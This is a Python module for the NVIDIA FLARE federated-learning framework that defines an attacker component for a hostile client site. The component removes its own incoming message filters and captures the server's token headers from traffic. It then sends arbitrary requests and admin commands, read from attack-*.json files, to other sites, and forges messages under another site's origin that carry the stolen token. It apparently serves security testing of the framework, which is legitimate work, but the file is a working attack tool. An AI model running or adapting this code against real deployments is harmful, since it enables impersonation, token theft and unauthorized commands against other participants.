"""What a hostile hospital puts into its own kit: it sends whatever a file beside it says, over the site's own connection to the
server, and writes down what is answered."""

import json
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from nvflare.apis.fl_component import FLComponent
from nvflare.apis.shareable import Shareable
from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, MessageType
from nvflare.fuel.f3.cellnet.registry import Registry
from nvflare.fuel.f3.message import Message
from nvflare.fuel.utils.fobs import FOBSContextKey
from nvflare.private.admin_defs import Message as AdminMessage


class Attacker(FLComponent):
    """Attacks are files `attack-*.json`, lists of `send`'s arguments; answers go to `attack-*.out`."""

    def __init__(self):
        super().__init__()
        self.bearer = {}
        if any(argument.endswith("client_train") or "client_train.py" in argument for argument in sys.orig_argv):
            threading.Thread(target=self._serve, args=(Path.cwd(),), daemon=True).start()

    def _serve(self, kit: Path) -> None:
        while not (cell := CoreCell.ALL_CELLS.get(kit.name)) or not cell.running:
            time.sleep(0.1)
        cell.in_filter_reg, cell.in_req_filter_reg = Registry(), Registry()  # its own gate would stop its victims' answers
        cell.add_incoming_filter("*", "*", self._listen)
        while True:
            for path in sorted(kit.glob("attack-*.json")):
                attacks = json.loads(path.read_text())
                path.unlink()
                with ThreadPoolExecutor(len(attacks)) as pool:
                    answers = list(pool.map(lambda attack, cell=cell: self.send(cell, **attack), attacks))
                part = path.with_suffix(".part")
                part.write_text(json.dumps(answers))
                part.rename(path.with_suffix(".out"))
            time.sleep(0.1)

    def _listen(self, message: Message) -> None:
        """The server shows its token with everything that it sends."""
        if message.get_header(MessageHeaderKey.ORIGIN) == "server":
            names = [name for name in message.headers if not name.startswith("cn__")]
            self.bearer = {name: message.headers[name] for name in names}

    def send(self, cell, to, channel, topic, command="", body="", headers=None, stream=False, origin=""):
        """Says what came back: the text of a command's answer, another's return code and kind; nothing where none came."""
        payload = Shareable()
        if command:
            payload = AdminMessage(command, body)
            payload.set_headers(headers or {})
        else:
            payload.update(headers or {})
        if origin:
            return self._spoof(cell, to, channel, topic, payload, origin)
        sender = cell.fobs_ctx[FOBSContextKey.CELL] if stream else cell
        reply = sender.send_request(channel=channel, topic=topic, target=to, request=Message({}, payload), timeout=5.0)
        if reply.get_header(MessageHeaderKey.RETURN_CODE) in ("timeout", "comm_error"):
            return None
        code, answered = reply.get_header(MessageHeaderKey.RETURN_CODE), reply.payload
        return str(getattr(answered, "body", None) or f"{code} {type(answered).__name__}")

    def _spoof(self, cell, to, channel, topic, payload, origin) -> None:
        headers = {
            MessageHeaderKey.MSG_TYPE: MessageType.REQ,
            MessageHeaderKey.CHANNEL: channel,
            MessageHeaderKey.TOPIC: topic,
            MessageHeaderKey.ORIGIN: origin,
            MessageHeaderKey.FROM_CELL: origin,
            MessageHeaderKey.TO_CELL: "server",
            MessageHeaderKey.DESTINATION: to,
            MessageHeaderKey.REQ_ID: "spoofed",
            MessageHeaderKey.ROUTE: [(origin, time.time())],
        }
        cell._send_to_endpoint(cell.agents["server"].endpoint, Message(headers | self.bearer, payload))
